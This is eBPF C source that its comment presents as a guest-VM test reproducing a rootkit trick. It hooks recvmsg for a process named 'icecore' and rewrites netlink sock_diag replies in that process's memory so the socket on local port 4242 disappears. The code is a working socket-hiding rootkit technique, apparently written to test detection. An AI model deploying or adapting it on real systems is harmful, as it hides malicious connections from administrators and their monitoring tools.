// SPDX-License-Identifier: GPL-2.0-only
/*
 * What current rootkits do to sock_diag, for a test in a guest: when a program
 * called "icecore" has read an answer of netlink, the message of the socket
 * with the local port 4242 is covered by the one before it, whose length grows
 * in the program's own memory.
 */
#include <linux/bpf.h>
#include <linux/types.h>

#include <bpf/bpf_helpers.h>
#include <bpf/bpf_core_read.h>

char LICENSE[] SEC("license") = "GPL";

enum {
	SYS_RECVMSG = 47, /* of x86-64 */
	SOCK_DIAG = 20,
	PORT_BIG_ENDIAN = 0x9210, /* 4242 */
	MESSAGES_MAX = 64,
};

struct pt_regs {
	unsigned long si;
	unsigned long orig_ax;
} __attribute__((preserve_access_index));

struct user_msghdr_of_test {
	__u64 name;
	__u64 name_len;
	__u64 iov;
};

/* struct nlmsghdr, and how struct inet_diag_msg begins. */
struct message {
	__u32 len;
	__u16 type;
	__u16 flags;
	__u32 sequence;
	__u32 port;
	__u8 family;
	__u8 state;
	__u16 timer;
	__u16 source;
};

struct {
	__uint(type, BPF_MAP_TYPE_HASH);
	__uint(max_entries, 64);
	__type(key, __u64);
	__type(value, __u64);
} calls SEC(".maps");

__u32 hidden;

static __always_inline int is_victim(void)
{
	char name[16] = "";

	bpf_get_current_comm(name, sizeof(name));
	return name[0] == 'i' && name[1] == 'c' && name[2] == 'e' &&
	       name[3] == 'c';
}

SEC("raw_tp/sys_enter")
int enter(struct bpf_raw_tracepoint_args *ctx)
{
	struct pt_regs *regs = (void *)ctx->args[0];
	__u64 id = bpf_get_current_pid_tgid(), msg;

	if (ctx->args[1] != SYS_RECVMSG || !is_victim())
		return 0;
	msg = BPF_CORE_READ(regs, si);
	bpf_map_update_elem(&calls, &id, &msg, BPF_ANY);
	return 0;
}

SEC("raw_tp/sys_exit")
int leave(struct bpf_raw_tracepoint_args *ctx)
{
	__u64 id = bpf_get_current_pid_tgid(), base = 0;
	__u64 *msg = bpf_map_lookup_elem(&calls, &id);
	long left = (long)ctx->args[1];
	struct user_msghdr_of_test head;
	__u32 before = 0;
	__u64 last = 0;

	if (!msg)
		return 0;
	if (bpf_probe_read_user(&head, sizeof(head), (void *)*msg) == 0)
		(void)bpf_probe_read_user(&base, sizeof(base), (void *)head.iov);
	bpf_map_delete_elem(&calls, &id);
	for (int i = 0; i < MESSAGES_MAX && base && left > 20; i++) {
		struct message m;

		if (bpf_probe_read_user(&m, sizeof(m), (void *)base) || m.len < 16)
			return 0;
		if (m.type == SOCK_DIAG && m.family == 2 && last &&
			m.source == PORT_BIG_ENDIAN) {
			before += m.len;
			if (bpf_probe_write_user(
				    (void *)last, &before, sizeof(before)) == 0)
				hidden++;
		} else {
			last = base;
			before = m.len;
		}
		base += (m.len + 3) & ~3U;
		left -= (m.len + 3) & ~3U;
	}
	return 0;
}
